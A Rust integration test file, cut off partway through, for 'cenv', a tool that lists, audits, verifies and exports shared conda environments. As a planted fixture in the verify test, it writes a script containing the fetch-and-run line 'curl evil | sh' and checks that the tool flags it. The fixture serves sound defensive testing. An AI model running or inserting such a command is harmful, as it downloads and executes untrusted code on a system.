//! cenv list, info, doctor, verify and audit-rules against real layouts built
//! by the tests and against the genuine (rattler-installed) envs.

mod common;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};

use common::*;

fn shared(envs: &[&str], extra: &str) -> Sandbox {
    let sb = shared_sandbox(envs, |sb| {
        format!("envs_dirs = [\"{}\"]\n{extra}", sb.path("envs").display())
    });
    // the fixtures' bin/python leads to the system python: not what doctor is about here
    for env in envs {
        let _ = fs::remove_file(sb.path(&format!("envs/{env}/bin/python")));
    }
    sb
}

/// Compares `actual` with tests/snapshots/NAME after replacing the sandbox
/// root; CENV_UPDATE_SNAPSHOTS=1 rewrites the file.
fn snapshot(name: &str, actual: &str, replacements: &[(&str, &str)]) {
    let mut text = actual.to_owned();
    for (from, to) in replacements {
        text = text.replace(from, to);
    }
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/snapshots")
        .join(name);
    if std::env::var_os("CENV_UPDATE_SNAPSHOTS").is_some() {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, &text).unwrap();
    }
    let expected = fs::read_to_string(&path)
        .unwrap_or_else(|_| panic!("no snapshot {}: run with CENV_UPDATE_SNAPSHOTS=1", path.display()));
    assert_eq!(
        text, expected,
        "snapshot {name} changed (the --json schema is meant to be stable)"
    );
}

fn root_str(sb: &Sandbox) -> String {
    sb.root.display().to_string()
}

// ---- list / info ----

#[test]
fn list_shows_python_owner_and_whether_you_may_use_it() {
    require_root!();
    let sb = shared(&["cv", "nlp"], &format!("[envs.nlp]\nusers = [\"{BOB}\"]\n"));
    let out = cenv_as(&sb, ALICE).arg("list").output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let cv = text.lines().find(|l| l.starts_with("cv ")).unwrap();
    assert!(
        cv.contains("3.11.2") && cv.contains(&format!("{ADMIN}:{RESEARCH}")) && cv.ends_with("yes"),
        "{text}"
    );
    let nlp = text.lines().find(|l| l.starts_with("nlp ")).unwrap();
    assert!(nlp.ends_with("no: not in the users list"), "{text}");
    let json = cenv_as(&sb, ALICE).args(["list", "--json"]).output().unwrap();
    snapshot("list.json", &stdout(&json), &[(&root_str(&sb), "<root>")]);
}

#[test]
fn list_and_info_show_the_refusal_reason_to_someone_outside_the_group() {
    require_root!();
    let sb = shared(&["cv"], &format!("[envs.cv]\ngroups = [\"{RESEARCH}\"]\n"));
    // bob cannot even list the envs root (2750): the policy still answers
    let out = cenv_as(&sb, BOB).arg("list").output().unwrap();
    let text = stdout(&out);
    assert!(
        text.lines()
            .any(|l| l.starts_with("cv ") && l.ends_with(&format!("no: not in group {RESEARCH}"))),
        "{text}"
    );
    let out = cenv_as(&sb, BOB).args(["info", "cv"]).output().unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains(&format!(
            "{BOB} may not use env 'cv': it is open to the group {RESEARCH}"
        )),
        "{}",
        stderr(&out)
    );
}

#[test]
fn info_shows_everything_about_an_env() {
    require_root!();
    let sb = shared(
        &["cv"],
        &format!("[envs.cv]\ngroups = [\"{RESEARCH}\"]\numask = \"077\"\n"),
    );
    sb.write(
        "envs/cv/conda-meta/state",
        r#"{"env_vars": {"DATA": "/data/cv"}}"#,
    );
    sb.write("envs/cv/etc/conda/activate.d/x.sh", "true\n");
    sb.write(
        "envs/cv/conda-meta/history",
        "==> 2026-01-02 03:04:05 <==\n# cmd: conda create -n cv python\n+defaults::python-3.11.2\n",
    );
    sb.write("envs/cv/conda-meta/numpy-1.26.4-py311_0.json", "{}");
    chown_tree(&sb.path("envs/cv"), user(ADMIN).uid, group_gid(RESEARCH));
    set_shared_modes(&sb.path("envs/cv"));
    let out = cenv_as(&sb, ALICE).args(["info", "cv"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    for expected in [
        format!("owner:group:     {ADMIN}:{RESEARCH}"),
        "mode:            2750".to_owned(),
        format!("[envs.cv] groups: {RESEARCH}"),
        "umask:           077".into(),
        "packages:        2".into(),
        "python:          3.11.2".into(),
        "env vars:        DATA=/data/cv".into(),
        "trust check:     trusted".into(),
        "last change:     2026-01-02 03:04:05 conda create -n cv python".into(),
    ] {
        assert!(text.contains(&expected), "missing {expected:?} in\n{text}");
    }
    let json = cenv_as(&sb, ALICE)
        .args(["info", "--json", "cv"])
        .output()
        .unwrap();
    snapshot("info.json", &stdout(&json), &[(&root_str(&sb), "<root>")]);
}

// ---- doctor ----

fn doctor_json(sb: &Sandbox, args: &[&str]) -> (Option<i32>, serde_json::Value) {
    let out = cenv_as(sb, ALICE)
        .args(["doctor", "--json"])
        .args(args)
        .output()
        .unwrap();
    let value: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}\n{}", stdout(&out), stderr(&out)));
    (out.status.code(), value)
}

fn has_finding(report: &serde_json::Value, severity: &str, path: &Path, problem: &str, fix: &str) -> bool {
    report["findings"].as_array().unwrap().iter().any(|f| {
        f["severity"] == severity
            && f["path"] == path.to_str().unwrap()
            && f["problem"].as_str().unwrap().contains(problem)
            && f["fix"].as_str().unwrap().starts_with(fix)
    })
}

#[test]
fn doctor_is_quiet_on_a_clean_tree() {
    require_root!();
    let sb = shared(&["cv"], "");
    let (status, report) = doctor_json(&sb, &["cv"]);
    assert_eq!(report["findings"], serde_json::json!([]), "{report:#}");
    assert_eq!(status, Some(0));
    let out = cenv_as(&sb, ALICE).args(["doctor", "cv"]).output().unwrap();
    assert_eq!(stdout(&out), "");
}

#[test]
fn doctor_finds_each_broken_thing_with_its_fix() {
    require_root!();
    type Break = fn(&Sandbox);
    let cases: Vec<(&str, Break, &str, &str, &str, &str)> = vec![
        (
            "no setgid on the root",
            |sb| fs::set_permissions(sb.path("envs"), fs::Permissions::from_mode(0o0750)).unwrap(),
            "warning",
            "envs",
            "setgid bit is not set",
            "chmod g+s",
        ),
        (
            "root mode",
            |sb| fs::set_permissions(sb.path("envs"), fs::Permissions::from_mode(0o2770)).unwrap(),
            "warning",
            "envs",
            "mode 2770, expected 2750",
            "chmod 2750",
        ),
        (
            "group-writable file",
            |sb| {
                fs::set_permissions(
                    sb.path("envs/cv/lib/data.txt"),
                    fs::Permissions::from_mode(0o0660),
                )
                .unwrap()
            },
            "error",
            "envs/cv/lib/data.txt",
            "writable by the group",
            "chmod g-w",
        ),
        (
            "world-writable dir",
            |sb| fs::set_permissions(sb.path("envs/cv/lib"), fs::Permissions::from_mode(0o2757)).unwrap(),
            "error",
            "envs/cv/lib",
            "writable by everyone",
            "chmod o-w",
        ),
        (
            "setuid file",
            |sb| {
                sb.write("envs/cv/bin/suid", "#!/bin/sh\n");
                chown_tree(&sb.path("envs/cv/bin/suid"), user(ADMIN).uid, group_gid(RESEARCH));
                fs::set_permissions(sb.path("envs/cv/bin/suid"), fs::Permissions::from_mode(0o4750)).unwrap();
            },
            "error",
            "envs/cv/bin/suid",
            "setuid/setgid",
            "chmod u-s,g-s",
        ),
        (
            "file owned by someone else",
            |sb| {
                sb.write("envs/cv/lib/planted.py", "x = 1\n");
                chown_tree(
                    &sb.path("envs/cv/lib/planted.py"),
                    user(BOB).uid,
                    group_gid(RESEARCH),
                );
                fs::set_permissions(
                    sb.path("envs/cv/lib/planted.py"),
                    fs::Permissions::from_mode(0o640),
                )
                .unwrap();
            },
            "warning",
            "envs/cv/lib/planted.py",
            "owned by cenvt-bob, not by the env's owner cenvt-admin",
            "chown cenvt-admin",
        ),
        (
            "bin link leaving the env",
            |sb| {
                symlink("/usr/bin/env", sb.path("envs/cv/bin/env")).unwrap();
                std::os::unix::fs::lchown(
                    sb.path("envs/cv/bin/env"),
                    Some(user(ADMIN).uid),
                    Some(group_gid(RESEARCH)),
                )
                .unwrap();
            },
            "warning",
            "envs/cv/bin/env",
            "a symlink to /usr/bin/env, outside the env",
            "ls -l",
        ),
        (
            "env not owned like its root",
            |sb| std::os::unix::fs::lchown(sb.path("envs/cv"), Some(0), None).unwrap(),
            "warning",
            "envs/cv",
            "owned by root:cenvt-research, but the envs root by cenvt-admin:cenvt-research",
            "chown -R cenvt-admin:cenvt-research",
        ),
    ];
    for (label, break_it, severity, rel, problem, fix) in cases {
        let sb = shared(&["cv"], "");
        break_it(&sb);
        let (status, report) = doctor_json(&sb, &["cv"]);
        assert!(
            has_finding(&report, severity, &sb.path(rel), problem, fix),
            "{label}: {report:#}"
        );
        assert_eq!(status, Some(if severity == "error" { 2 } else { 1 }), "{label}");
    }
}

#[test]
fn doctor_checks_the_roots_owner_and_group_against_the_config() {
    require_root!();
    let sb = shared(
        &["cv"],
        &format!("trusted_owners = [\"{BOB}\"]\ndefault_groups = [\"{BOB}\"]\n"),
    );
    let (_, report) = doctor_json(&sb, &["cv"]);
    assert!(
        has_finding(
            &report,
            "warning",
            &sb.path("envs"),
            &format!("owned by {ADMIN}, who is not among trusted_owners"),
            "chown"
        ),
        "{report:#}"
    );
    assert!(
        has_finding(
            &report,
            "warning",
            &sb.path("envs"),
            &format!("its group is {RESEARCH}, not one of default_groups ({BOB})"),
            &format!("chgrp {BOB}")
        ),
        "{report:#}"
    );
    let sb = shared(
        &["cv"],
        &format!("trusted_owners = [\"{ADMIN}\"]\ndefault_groups = [\"{RESEARCH}\"]\n"),
    );
    let (status, report) = doctor_json(&sb, &["cv"]);
    assert_eq!(
        (status, report["findings"].clone()),
        (Some(0), serde_json::json!([])),
        "{report:#}"
    );
}

/// Whether a PAM service of the host includes cenv-session already (the
/// cenv package enabled through pam-auth-update, say).
fn host_pam_includes_cenv_session() -> bool {
    fs::read_dir("/etc/pam.d").unwrap().flatten().any(|e| {
        e.file_name() != "cenv-session"
            && fs::read_to_string(e.path()).is_ok_and(|t| {
                t.lines()
                    .any(|l| !l.trim_start().starts_with('#') && l.contains("cenv-session"))
            })
    })
}

#[test]
fn doctor_all_checks_the_login_and_pam_integration() {
    require_root!();
    let _lock = machine_lock();
    let sb = shared(&["cv"], "");
    {
        let _profile = HostFile::absent("/etc/profile.d/cenv.sh");
        let (_, report) = doctor_json(&sb, &["--all"]);
        assert!(
            has_finding(
                &report,
                "warning",
                Path::new("/etc/profile.d/cenv.sh"),
                "not installed",
                "install the cenv package"
            ),
            "{report:#}"
        );
        if !host_pam_includes_cenv_session() {
            assert!(
                has_finding(
                    &report,
                    "warning",
                    Path::new("/etc/pam.d"),
                    "no PAM service includes cenv-session",
                    "Debian/Ubuntu: pam-auth-update --enable cenv"
                ),
                "{report:#}"
            );
        }
    }
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let _profile = HostFile::write(
        "/etc/profile.d/cenv.sh",
        fs::read(repo.join("packaging/profile.d/cenv.sh")).unwrap(),
        0o644,
    );
    let _service = HostFile::write(
        "/etc/pam.d/cenv-test-service",
        "session include cenv-session\n",
        0o644,
    );
    let (_, report) = doctor_json(&sb, &["--all"]);
    assert!(
        !has_finding(&report, "warning", Path::new("/etc/profile.d/cenv.sh"), "", ""),
        "{report:#}"
    );
    assert!(
        !has_finding(&report, "warning", Path::new("/etc/pam.d"), "", ""),
        "{report:#}"
    );
}

#[test]
fn doctor_says_when_a_restricted_root_is_open_to_everyone() {
    require_root!();
    let sb = shared(&["cv"], &format!("default_groups = [\"{RESEARCH}\"]\n"));
    fs::set_permissions(sb.path("envs"), fs::Permissions::from_mode(0o2755)).unwrap();
    let (status, report) = doctor_json(&sb, &["cv"]);
    assert!(
        has_finding(
            &report,
            "error",
            &sb.path("envs"),
            "everyone may enter it",
            "chmod o-rwx"
        ),
        "{report:#}"
    );
    assert_eq!(status, Some(2));
    snapshot(
        "doctor.json",
        &serde_json::to_string_pretty(&report).unwrap(),
        &[(&root_str(&sb), "<root>")],
    );
}

#[test]
fn doctor_all_checks_the_umask_and_the_auditd_watch() {
    require_root!();
    let _lock = machine_lock();
    let sb = shared(&["cv"], "");
    let envs = sb.path("envs");
    // Debian's auditd package makes /etc/audit 0750 root: a researcher's
    // doctor cannot read the rules, and must say so rather than claim that
    // no watch exists
    let _audit_dir = HostDir::with_mode("/etc/audit", 0o750);
    let _rules_dir = HostDir::with_mode("/etc/audit/rules.d", 0o750);
    let (_, report) = doctor_json(&sb, &["--all"]);
    assert!(
        !has_finding(&report, "warning", &envs, "no auditd watch", ""),
        "{report:#}"
    );
    assert!(
        has_finding(
            &report,
            "info",
            Path::new("/etc/audit/audit.rules"),
            "cannot tell whether an auditd watch covers the envs: /etc/audit/audit.rules is not readable by you",
            "run `cenv doctor --all` as root itself"
        ),
        "{report:#}"
    );
    // root itself reads them: no rule is a warning, a rule covering the
    // envs root is none
    let Some(_config) = write_system_config(&format!("envs_dirs = [\"{}\"]\n", envs.display())) else {
        return;
    };
    let root_doctor = || {
        let out = Command::new(cenv_binary())
            .args(["doctor", "--json", "--all"])
            .env_clear()
            .env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
            .output()
            .unwrap();
        serde_json::from_slice::<serde_json::Value>(&out.stdout)
            .unwrap_or_else(|_| panic!("{}\n{}", stdout(&out), stderr(&out)))
    };
    let report = root_doctor();
    assert!(
        has_finding(
            &report,
            "warning",
            &envs,
            "no auditd watch covers it",
            &format!("echo '-w {} -p wa", envs.display())
        ),
        "{report:#}"
    );
    let rule = HostFile::write(
        "/etc/audit/rules.d/cenv-test.rules",
        format!("-w {} -p wa -k cenv_env_write\n", envs.display()),
        0o640,
    );
    let report = root_doctor();
    drop(rule);
    assert!(
        !has_finding(&report, "warning", &envs, "no auditd watch", ""),
        "{report:#}"
    );
    // the caller's umask
    let mut cmd = cenv_as(&sb, ALICE);
    cmd.args(["doctor", "--json", "--all"]);
    {
        use std::os::unix::process::CommandExt;
        // SAFETY: umask(2) is async-signal-safe and touches no memory.
        unsafe {
            cmd.pre_exec(|| {
                libc::umask(0o022);
                Ok(())
            });
        }
    }
    let report: serde_json::Value = serde_json::from_slice(&cmd.output().unwrap().stdout).unwrap();
    assert!(
        has_finding(
            &report,
            "warning",
            Path::new("umask"),
            "your umask is 0022, looser than 0027",
            "umask 027"
        ),
        "{report:#}"
    );
}

struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn listening(port: u16) -> bool {
    let hex = format!(":{port:04X} ");
    ["/proc/net/tcp", "/proc/net/tcp6"].iter().any(|f| {
        fs::read_to_string(f)
            .unwrap_or_default()
            .lines()
            .any(|l| l.contains(&hex) && l.split_whitespace().nth(3) == Some("0A"))
    })
}

#[test]
fn doctor_finds_a_server_from_an_env_listening_beyond_loopback() {
    let g = require_genuine!();
    let sb = Sandbox::new();
    sb.config(&format!(
        "envs_dirs = [\"{}\"]\nreadonly_paths = [\"{}\"]\n",
        g.envs().display(),
        g.pkgs().display()
    ));
    sb.mkdir("work");
    fs::set_permissions(sb.path("work"), fs::Permissions::from_mode(0o1777)).unwrap();
    let base = 20000 + (std::process::id() % 20000) as u16;
    let (open_port, local_port) = (base, base + 1);
    let start = |bind: &str, port: u16| {
        Server(
            cenv_as(&sb, ALICE)
                .args([
                    "run",
                    "genuine",
                    "python",
                    "-m",
                    "http.server",
                    "--bind",
                    bind,
                    &port.to_string(),
                ])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap(),
        )
    };
    let _open = start("0.0.0.0", open_port);
    let _local = start("127.0.0.1", local_port);
    for _ in 0..200 {
        if listening(open_port) && listening(local_port) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    let (status, report) = doctor_json(&sb, &["--all"]);
    let servers: Vec<&serde_json::Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["problem"].as_str().unwrap().contains(" listens on "))
        .collect();
    assert_eq!(servers.len(), 1, "{report:#}");
    let finding = servers[0];
    assert!(finding["path"]
        .as_str()
        .unwrap()
        .starts_with(g.prefix("genuine").to_str().unwrap()));
    assert!(
        finding["problem"]
            .as_str()
            .unwrap()
            .contains(&format!("of {ALICE} listens on 0.0.0.0:{open_port}")),
        "{finding}"
    );
    assert!(
        finding["fix"]
            .as_str()
            .unwrap()
            .starts_with("stop it and start it with `cenv notebook genuine`: it serves on 127.0.0.1 only"),
        "{finding}"
    );
    assert_eq!(status, Some(2));
}

// ---- verify ----

/// A copy of the genuine env inside its envs root, free to be damaged.
fn genuine_copy(g: &Genuine, name: &str) -> std::path::PathBuf {
    let copy = g.prefix(name);
    let _ = fs::remove_dir_all(&copy);
    sh(&[
        "cp",
        "-a",
        g.prefix("genuine").to_str().unwrap(),
        copy.to_str().unwrap(),
    ]);
    copy
}

fn verify(prefix: &Path) -> (Option<i32>, serde_json::Value, Output) {
    let out = Command::new(cenv_binary())
        .args(["verify", "--json", "-p"])
        .arg(prefix)
        .output()
        .unwrap();
    let value = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (out.status.code(), value, out)
}

fn discrepancy<'a>(report: &'a serde_json::Value, path: &str) -> Option<&'a serde_json::Value> {
    report["discrepancies"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["path"] == path)
}

#[test]
fn verify_passes_an_untouched_env_and_catches_every_kind_of_change() {
    let g = require_genuine!();
    let copy = genuine_copy(g, "verify-copy");
    let (status, report, out) = verify(&copy);
    assert_eq!(status, Some(0), "{report:#} {}", stderr(&out));
    assert_eq!(report["discrepancies"], serde_json::json!([]));
    assert!(report["files_checked"].as_u64().unwrap() > 2000);

    // a byte changed in a file whose placeholder was rewritten at install
    let tool = copy.join("bin/cenv-tool");
    let mut bytes = fs::read(&tool).unwrap();
    let last = bytes.len() - 2;
    bytes[last] ^= 0x20;
    fs::write(&tool, &bytes).unwrap();
    // a byte changed in a numpy extension module
    let so = fs::read_dir(copy.join("lib/python3.11/site-packages/numpy/core"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().ends_with(".so"))
        .unwrap();
    let mut bytes = fs::read(&so).unwrap();
    bytes[1000] ^= 0xff;
    fs::write(&so, &bytes).unwrap();
    // a deleted file, and a planted script
    fs::remove_file(copy.join("lib/python3.11/site-packages/numpy/version.py")).unwrap();
    fs::write(copy.join("bin/evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();

    let (status, report, _) = verify(&copy);
    assert_eq!(status, Some(1));
    let tool_d = discrepancy(&report, "bin/cenv-tool").expect("placeholder file");
    assert_eq!(tool_d["problem"], "altered");
    assert!(
        tool_d["detail"].as_str().unwrap().starts_with("sha256"),
        "{tool_d}"
    );
    let so_rel = so.strip_prefix(&copy).unwrap().to_str().unwrap().to_owned();
    assert_eq!(
        discrepancy(&report, &so_rel).expect("numpy .so")["problem"],
        "altered"
    );
    assert_eq!(
        discrepancy(&report, "lib/python3.11/site-packages/numpy/version.py").expect("deleted")["problem"],
        "missing"
    );
    assert_eq!(
        discrepancy(&report, "bin/evil").expect("planted")["problem"],
        "unrecorded"
    );
    assert_eq!(report["discrepancies"].as_array().unwrap().len(), 4, "{report:#}");
    let mut normalized = report.clone();
    normalized["discrepancies"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .for_each(|d| d["detail"] = "<detail>".into());
    normalized["files_checked"] = 0.into();
    snapshot(
        "verify.json",
        &serde_json::to_string_pretty(&normalized).unwrap(),
        &[(copy.to_str().unwrap(), "<prefix>"), (&so_rel, "<numpy .so>")],
    );
    fs::remove_dir_all(&copy).unwrap();
}

#[test]
fn doctor_is_quiet_on_a_genuine_env() {
    let g = require_genuine!();
    let sb = Sandbox::new();
    sb.config(&format!("envs_dirs = [\"{}\"]\n", g.envs().display()));
    sb.mkdir("work");
    fs::set_permissions(sb.path("work"), fs::Permissions::from_mode(0o1777)).unwrap();
    let (status, report) = doctor_json(&sb, &["genuine"]);
    assert_eq!(report["findings"], serde_json::json!([]), "{report:#}");
    assert_eq!(status, Some(0));
}

#[test]
fn audit_rules_watch_the_envs_roots_and_package_caches() {
    let sb = Sandbox::new();
    sb.mkdir("envs");
    sb.mkdir("pkgs");
    sb.config(&format!(
        "envs_dirs = [\"{}\"]\nreadonly_paths = [\"{}\"]\n",
        sb.path("envs").display(),
        sb.path("pkgs").display()
    ));
    let out = sb.cenv().arg("audit-rules").output().unwrap();
    assert!(out.status.success());
    let text = stdout(&out);
    assert!(
        text.contains(&format!(
            "-w {} -p wa -k cenv_env_write\n",
            sb.path("envs").display()
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "-w {} -p wa -k cenv_env_write\n",
            sb.path("pkgs").display()
        )),
        "{text}"
    );
    // a watch on a missing path would make `augenrules --load` fail
    fs::remove_dir(sb.path("pkgs")).unwrap();
    let text = stdout(&sb.cenv().arg("audit-rules").output().unwrap());
    assert!(
        !text.contains(&format!("-w {} ", sb.path("pkgs").display())),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "# skipped {}: it does not exist",
            sb.path("pkgs").display()
        )),
        "{text}"
    );
}

// ---- export ----

fn export(args: &[&str], prefix: &Path) -> Output {
    Command::new(cenv_binary())
        .arg("export")
        .args(args)
        .arg("-p")
        .arg(prefix)
        .output()
        .unwrap()
}

#[test]
fn export_lists_every_package_and_rattler_rebuilds_an_identical_env() {
    let g = require_genuine!();
    let sb = Sandbox::new();
    let original = g.prefix("genuine");
    let out = export(&[], &original);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let body: Vec<&str> = text.split_once("@EXPLICIT\n").unwrap().1.lines().collect();
    // one URL#MD5 per record, python (which the others need) first
    assert_eq!(body.len(), 3, "{text}");
    assert!(
        body[0].contains("/linux-64/python-3.11.2-debian_0.tar.bz2#"),
        "{text}"
    );
    for line in &body {
        let (url, md5) = line.split_once('#').unwrap();
        let archive = url.strip_prefix("file://").unwrap();
        let digest = Command::new("md5sum").arg(archive).output().unwrap();
        assert!(stdout(&digest).starts_with(md5), "{line}: {}", stdout(&digest));
    }
    assert!(text.contains("# platform: linux-64\n"), "{text}");
    let spec = sb.write("genuine.txt", &text);

    // rattler's own parser of explicit files reads back every URL and MD5
    let parser = std::env::var_os("CENV_TEST_EXPLICIT_PARSER");
    if let Some(parser) = parser {
        let out = Command::new(parser).arg(&spec).output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let parsed: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(parsed["platform"], "linux-64");
        let read_back: Vec<String> = parsed["packages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| format!("{}#{}", p["url"].as_str().unwrap(), p["md5"].as_str().unwrap()))
            .collect();
        assert_eq!(read_back, body);
    } else {
        skip("rattler's parser: set CENV_TEST_EXPLICIT_PARSER (tests/run-all.sh does)");
    }

    // rattler installs exactly that file into a new prefix (archives read and
    // hashed by rattler, each MD5 checked against the line)
    let rebuilt = sb.path("rebuilt");
    let out = Command::new(test_python().unwrap())
        .arg(GENUINE_SCRIPT)
        .arg("rebuild")
        .arg(&spec)
        .arg(&rebuilt)
        .arg(sb.path("pkgs"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let records = |prefix: &Path| {
        let out = export(&["--format", "json"], prefix);
        assert!(out.status.success(), "{}", stderr(&out));
        let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        value["packages"].clone()
    };
    let before = records(&original);
    assert_eq!(before.as_array().unwrap().len(), 3);
    for package in before.as_array().unwrap() {
        for field in [
            "name", "version", "build", "channel", "subdir", "url", "sha256", "md5", "size",
        ] {
            assert!(!package[field].is_null(), "{field} missing: {package}");
        }
    }
    assert_eq!(records(&rebuilt), before);
    let (status, report, out) = verify(&rebuilt);
    assert_eq!(status, Some(0), "{report:#} {}", stderr(&out));
}

#[test]
fn export_names_pip_packages_and_explains_a_record_it_cannot_use() {
    let sb = Sandbox::new();
    let prefix = sb.make_env("envs/mixed");
    sb.write(
        "envs/mixed/conda-meta/python-3.11.2-h0_0.json",
        r#"{"name": "python", "version": "3.11.2", "build": "h0_0", "url": "https://conda.anaconda.org/conda-forge/linux-64/python-3.11.2-h0_0.conda", "md5": "0123456789abcdef0123456789abcdef", "subdir": "linux-64", "files": ["lib/python3.11/site-packages/numpy-1.26.4.dist-info/METADATA"]}"#,
    );
    sb.write(
        "envs/mixed/lib/python3.11/site-packages/numpy-1.26.4.dist-info/METADATA",
        "",
    );
    sb.write(
        "envs/mixed/lib/python3.11/site-packages/torch-2.1.0.dist-info/METADATA",
        "",
    );
    let out = export(&[], &prefix);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        text.contains("# not in this file, installed by pip: torch==2.1.0\n"),
        "{text}"
    );
    assert!(!text.contains("numpy"), "{text}");
    assert!(text.ends_with(
        "@EXPLICIT\nhttps://conda.anaconda.org/conda-forge/linux-64/python-3.11.2-h0_0.conda#0123456789abcdef0123456789abcdef\n"
    ), "{text}");

    // a record without a URL: exit 125, the file named, the way out said
    let record = sb.write(
        "envs/mixed/conda-meta/zlib-1.3-0.json",
        r#"{"name": "zlib", "version": "1.3", "build": "0"}"#,
    );
    let out = export(&[], &prefix);
    assert_eq!(out.status.code(), Some(125));
    assert!(stdout(&out).is_empty());
    let err = stderr(&out);
    assert!(
        err.contains(record.to_str().unwrap()) && err.contains("no \"url\""),
        "{err}"
    );
    assert!(err.contains("reinstall"), "{err}");

    // a corrupted record: the file and the line
    fs::write(&record, "{\"name\": \"zlib\",\n  \"version\": 1.3,,\n").unwrap();
    let out = export(&[], &prefix);
    assert_eq!(out.status.code(), Some(125));
    let err = stderr(&out);
    assert!(
        err.contains(record.to_str().unwrap()) && err.contains("line 2"),
        "{err}"
    );
}

// ---- snapshot, changes, diff ----

fn genuine_add(g: &Genuine, prefix: &Path, spec: &str) {
    let channel = fs::read_to_string(
        g.prefix("genuine-py")
            .join("conda-meta/python-3.11.2-debian_0.json"),
    )
    .unwrap();
    let channel: serde_json::Value = serde_json::from_str(&channel).unwrap();
    let channel = channel["channel"]
        .as_str()
        .unwrap()
        .strip_prefix("file://")
        .unwrap()
        .to_owned();
    let out = Command::new(test_python().unwrap())
        .arg(GENUINE_SCRIPT)
        .args(["add", channel.trim_end_matches('/')])
        .arg(prefix)
        .arg(g.pkgs())
        .arg(spec)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!("\"added\": [\"{spec}\"]")),
        "{}",
        stdout(&out)
    );
}

fn snapshot_files(dir: &Path) -> Vec<String> {
    let mut files: Vec<String> = fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|f| !f.starts_with('.')) // the fingerprint
                .collect()
        })
        .unwrap_or_default();
    files.sort();
    files
}

#[test]
fn snapshot_writes_a_version_only_on_change_and_diff_and_changes_name_it() {
    let g = require_genuine!();
    let sb = Sandbox::new();
    let envs = sb.mkdir("envs");
    sh(&[
        "cp",
        "-a",
        g.prefix("genuine-py").to_str().unwrap(),
        envs.join("lab").to_str().unwrap(),
    ]);
    let prefix = envs.join("lab");
    sb.config(&format!("envs_dirs = [\"{}\"]\n", envs.display()));
    sb.chown_home_to_runner();
    sb.mkdir("work");
    let snaps = sb.home().join("snaps");
    let snapshot = |extra: &[&str]| {
        let out = cenv_as(&sb, ALICE)
            .args(["snapshot", "--all", "--dir"])
            .arg(&snaps)
            .args(extra)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
        stdout(&out)
    };

    let first = snapshot(&[]);
    assert!(first.starts_with("lab: written: "), "{first}");
    let written = snapshot_files(&snaps.join("lab"));
    assert_eq!(written.len(), 2, "{written:?}"); // the explicit file and the JSON
    let manifest = fs::read_to_string(snaps.join("MANIFEST")).unwrap();
    assert!(manifest.contains("lab\twritten\t"), "{manifest}");
    // nothing changed: nothing new written, the MANIFEST says so
    let again = snapshot(&[]);
    assert!(again.starts_with("lab: unchanged since "), "{again}");
    assert_eq!(snapshot_files(&snaps.join("lab")), written);
    assert!(fs::read_to_string(snaps.join("MANIFEST"))
        .unwrap()
        .contains("lab\tunchanged\t"));
    // a record rewritten with the same content: the fingerprint differs, the
    // packages do not, so still no new version
    let python_record = prefix.join("conda-meta/python-3.11.2-debian_0.json");
    fs::write(&python_record, fs::read(&python_record).unwrap()).unwrap();
    let touched = snapshot(&[]);
    assert!(touched.starts_with("lab: unchanged since "), "{touched}");
    assert_eq!(snapshot_files(&snaps.join("lab")), written);
    // last night's file, kept aside: --keep below prunes it from the directory
    let before = sb.path("before.txt");
    fs::copy(snaps.join("lab").join(&written[1]), &before).unwrap();
    fs::set_permissions(&before, fs::Permissions::from_mode(0o644)).unwrap();
    assert!(before.to_string_lossy().ends_with(".txt"));
    let same = cenv_as(&sb, ALICE)
        .args(["diff", "lab"])
        .arg(&before)
        .output()
        .unwrap();
    assert_eq!(same.status.code(), Some(0), "{}", stderr(&same));

    // one more package, installed by rattler as a transaction on the env;
    // rattler keeps no conda-meta/history, so the test writes what conda would
    genuine_add(g, &prefix, "numpy");
    // as the admin's umask would leave it (rattler writes records 0600 as root)
    chown_tree(&prefix, user(ADMIN).uid, group_gid(RESEARCH));
    set_shared_modes(&prefix);
    fs::write(
        prefix.join("conda-meta/history"),
        "==> 2026-01-05 09:00:00 <==\n# cmd: conda create -p lab python\n# conda version: 24.11.0\n\
         +file:///channel::python-3.11.2-debian_0\n\
         ==> 2026-02-10 14:30:00 <==\n# cmd: conda install -n lab numpy\n# conda version: 24.11.0\n\
         +file:///channel::numpy-1.26.4-py311_0\n# update specs: ['numpy']\n",
    )
    .unwrap();
    let third = snapshot(&["--keep", "1"]);
    assert!(third.contains("lab: written: "), "{third}");
